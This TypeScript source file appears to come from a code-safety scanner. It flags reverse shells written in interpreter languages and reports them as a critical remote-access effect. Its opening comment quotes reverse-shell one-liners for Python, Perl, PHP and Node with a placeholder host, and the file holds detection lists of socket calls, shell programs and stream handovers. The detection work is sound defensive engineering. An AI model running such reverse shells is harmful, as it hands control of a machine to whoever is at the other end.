import type { Effect } from '../../core/types.js';
import type { Token } from '../code-scan.js';

// A reverse shell written in the interpreter's own language: the code opens a connection and gives it a
// shell (`python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("H",4444));os.dup2(…);pty.spawn("sh")'`,
// Perl's `socket(S,…);connect(S,…);open(STDIN,">&S");exec("/bin/sh -i")`, PHP's `fsockopen` then `exec("/bin/sh
// -i <&3 >&3")`, Node's `net.connect(…)` piped to `spawn("/bin/sh")`). Each was allowed: the shell it runs
// does nothing by itself, and nothing known as a secret was sent. Whoever is at the other end drives it.

/** Calls and classes that open a connection to another machine. */
const CONNECTS = new Set([
  'connect',
  'connect_ex',
  'open_connection',
  'create_connection',
  'createConnection',
  'fsockopen',
  'pfsockopen',
  'stream_socket_client',
  'socket_connect',
  'TCPSocket',
  'INET',
]);

/** A shell program, possibly told to be interactive and given the connection (`/bin/sh -i <&3 >&3`). */
const SHELL =
  /^\s*(\/usr)?(\/bin\/)?(ba|z|da|k|tc|c|a|fi)?sh(\.exe)?(\s+-i\b.*)?$|^(cmd(\.exe)?|powershell(\.exe)?)$/s;

/** The standard streams handed to the connection, or a terminal made for it. */
const HANDS_OVER_IDENTS = new Set(['dup2', 'dup', 'pty', 'fileno', 'pipe', 'spawn', 'IO', 'popen']);
const HANDS_OVER_STRINGS = /^([<>]&|-i$)|\s-i\b/;

const ADDRESS = /^(\d{1,3}(\.\d{1,3}){3}|[a-z0-9-]+(\.[a-z0-9-]+)+|localhost)$/i;

/** A shell handed to a connection by `code`, as one critical effect; none when the code does not. */
export function reverseShellEffects(tokens: readonly Token[], tool: string): Effect[] {
  const idents = new Set(tokens.filter((t) => t.kind === 'ident').map((t) => t.text));
  const strings = tokens.filter((t) => t.kind === 'string' && !t.dynamic).map((t) => t.text);
  if (![...CONNECTS].some((c) => idents.has(c))) return [];
  if (!strings.some((s) => SHELL.test(s))) return [];
  const handsOver =
    [...HANDS_OVER_IDENTS].some((i) => idents.has(i)) || strings.some((s) => HANDS_OVER_STRINGS.test(s));
  if (!handsOver) return [];
  const host = strings.find((s) => ADDRESS.test(s) && !SHELL.test(s));
  const port = tokens.find((t) => t.kind === 'number' && /^\d{2,5}$/.test(t.text))?.text;
  const to = host ? `${host}${port ? `:${port}` : ''}` : 'the machine it connects to';
  return [
    {
      operation: 'modify',
      tool,
      target: to,
      reversible: false,
      risk: 'critical',
      category: 'remote-access',
      reason: `${tool}: the code connects to ${to} and hands it a shell: control of this machine (a reverse shell)`,
      ...(host ? { hints: [{ source: `${tool} connects to`, value: host }] } : {}),
    },
  ];
}
